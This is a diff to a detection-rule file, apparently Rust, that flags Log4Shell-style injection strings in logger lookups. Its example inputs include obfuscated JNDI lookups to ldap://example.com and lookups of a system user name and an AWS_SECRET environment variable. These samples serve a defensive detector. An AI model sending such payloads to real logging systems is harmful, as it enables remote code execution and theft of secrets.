@@ -21,7 +21,7 @@ pub(super) static SPELLED: Rule = Rule::new(
     "code_injection.spelled-lookup",
     60,
     "spells a look-up of a logger letter by letter",
-    &["${${::-j}${::-n}di:ldap://example.com/a}", "${${::-s}ys:x}${sys:user.name}"],
+    &["${${::-j}${::-n}di:ldap://example.com/a}", "${${::-s}ys:user.name}"],
     &["${x::-1}", "${name:-y}", "${list[::-1]}"],
 );
 pub(super) static ENVIRONMENT: Rule = Rule::new(
@@ -29,7 +29,7 @@ pub(super) static ENVIRONMENT: Rule = Rule::new(
     "code_injection.environment-lookup",
     60,
     "has a logger fill in a variable of the server",
-    &["${${env:NONE:-j}ndi:ldap://example.com/a}", "$_GET[0]${env:USER}"],
+    &["$_GET[0]${env:USER}", "${${::-a}${env:AWS_SECRET}}"],
     &["${env.HOME}", "log with ${sys:user.name} in the pattern"],
 );
 pub(super) static CLASS_BINDING: Rule = Rule::new(
